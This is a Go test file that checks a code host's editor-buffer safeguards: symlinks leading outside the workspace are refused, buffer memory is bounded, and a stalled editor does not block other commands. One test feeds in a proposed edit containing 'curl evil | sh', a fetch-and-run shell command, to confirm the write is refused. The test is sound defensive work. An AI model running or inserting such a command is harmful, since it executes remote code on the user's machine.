package host

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tracebridge/tracebridge/events"
	"github.com/tracebridge/tracebridge/pipe"
)

// F-E2: an editor's unsaved buffer of a workspace symlink to a file outside
// the root gets the same answer as workspace.file (PathRefused): the buffer
// is not kept, a proposal against it is refused, nothing outside changes.
// The twin: a buffer of a regular file is kept and proposed against (the
// tests above).
func TestEditorBufferOfASymlinkIsRefused(t *testing.T) {
	e := newEditorRig(t)
	e.send(t, pipe.CmdEditorAttach, map[string]any{"editor": "test"})
	outside := filepath.Join(t.TempDir(), "settings.sh")
	os.WriteFile(outside, []byte("export SAFE=1\n"), 0o644)
	if err := os.Symlink(outside, e.abs("settings.sh")); err != nil {
		t.Fatal(err)
	}
	ans := e.send(t, pipe.CmdEditorDocument, map[string]any{"path": e.abs("settings.sh"), "version": 1, "dirty": true, "text": "export SAFE=1\n"})
	if ans["ok"] == true || ans["code"] != string(events.CodePathRefused) {
		t.Fatalf("a buffer of a symlink to outside the root: %v", ans)
	}
	resp := e.call(t, pipe.CmdProposeEdits, ProposeArgs{Files: []FileChange{{Path: "settings.sh", Edits: []Edit{{Original: "SAFE=1", Replacement: "SAFE=0; curl evil | sh"}}}}})
	if resp.OK || resp.Code != events.CodePathRefused {
		t.Fatalf("a proposal to the symlink: %v %s %s", resp.OK, resp.Code, resp.Message)
	}
	if b, _ := os.ReadFile(outside); string(b) != "export SAFE=1\n" {
		t.Fatalf("the file outside changed: %q", b)
	}
}

// F-E2, later: a buffer kept while the path was a regular file, which then
// becomes a symlink to outside, is not applied through.
func TestBufferThatBecameASymlinkIsNotAppliedThrough(t *testing.T) {
	e := newEditorRig(t)
	e.send(t, pipe.CmdEditorAttach, map[string]any{"editor": "test"})
	e.send(t, pipe.CmdEditorDocument, map[string]any{"path": e.abs("a.go"), "version": 1, "dirty": true, "text": "package a\n\nfunc A() int { return 2 }\n"})
	id, hash := e.propose(t, "a.go", "return 2", "return 3")
	outside := filepath.Join(t.TempDir(), "a.go")
	os.WriteFile(outside, []byte("package a\n\nfunc A() int { return 2 }\n"), 0o644)
	os.Remove(e.abs("a.go"))
	if err := os.Symlink(outside, e.abs("a.go")); err != nil {
		t.Fatal(err)
	}
	if pr := e.approve(t, id, hash); pr.State == Applied || pr.Code != events.CodePathRefused {
		t.Fatalf("applied through a buffer whose file became a symlink: %+v", pr)
	}
}

// F-E3: one editor's unsaved buffers are bounded: past its bound a buffer
// is refused TooLarge and the host keeps what it had. The twin: a buffer
// within the bound, and one replacing its own earlier text, are kept. (The
// bound is 64 MiB; here 5 MiB, so that the frames stay small.)
func TestEditorBuffersAreBounded(t *testing.T) {
	e := newEditorRig(t)
	ed := e.h.Editors()
	ed.mu.Lock()
	ed.room.perEditor = 5 << 20
	ed.mu.Unlock()
	e.send(t, pipe.CmdEditorAttach, map[string]any{"editor": "test"})
	big := strings.Repeat("x", 1<<20)
	kept := 0
	for i := range 8 {
		ans := e.send(t, pipe.CmdEditorDocument, map[string]any{"path": e.abs(strings.Repeat("b", i+1) + ".txt"), "version": 1, "dirty": true, "text": big})
		if ans["ok"] == true {
			kept++
			continue
		}
		if ans["code"] != string(events.CodeTooLarge) {
			t.Fatalf("buffer %d: %v", i, ans)
		}
	}
	if kept != 5 {
		t.Fatalf("%d buffers of 1 MiB kept, want 5", kept)
	}
	// The same path again replaces its own text: not counted twice.
	if ans := e.send(t, pipe.CmdEditorDocument, map[string]any{"path": e.abs("b.txt"), "version": 2, "dirty": true, "text": big}); ans["ok"] != true {
		t.Fatalf("replacing a kept buffer: %v", ans)
	}
}

// F-E5: an editor that never answers editor.apply_edit holds up the apply
// it was asked for, and nothing else: proposals.list answers at once
// meanwhile.
func TestAnEditorThatNeverAnswersBlocksNothingElse(t *testing.T) {
	e := newEditorRig(t)
	never := make(chan struct{})
	e.answer = func(map[string]any) map[string]any { <-never; return map[string]any{"ok": true} }
	e.send(t, pipe.CmdEditorAttach, map[string]any{"editor": "test"})
	e.send(t, pipe.CmdEditorDocument, map[string]any{"path": e.abs("a.go"), "version": 7, "dirty": true, "text": "package a\n\nfunc A() int { return 2 }\n"})
	id, hash := e.propose(t, "a.go", "return 2", "return 3")
	approved := make(chan struct{})
	go func() { // waits on the editor
		defer close(approved)
		b, _ := json.Marshal(DecideArgs{ID: id, Approve: true, ContentHash: hash, By: "test"})
		e.op.Call(context.Background(), pipe.Request{Command: pipe.CmdProposalsDecide, RequestID: events.NewID().String(), OperationID: events.NewID().String(), Payload: b})
	}()
	eventually(t, func() bool {
		for _, ev := range e.recorded(t, events.KindEditorRequestSent) {
			if ev.Attrs.Get(events.AttrProposal) == id {
				return true
			}
		}
		return false
	})
	resp := e.call(t, pipe.CmdProposalsList, nil)
	select {
	case <-approved:
		t.Fatal("proposals.list answered only after the editor did")
	default: // answered while the editor still holds the apply
	}
	close(never)
	<-approved
	if !resp.OK {
		t.Fatalf("proposals.list: %s %s", resp.Code, resp.Message)
	}
}
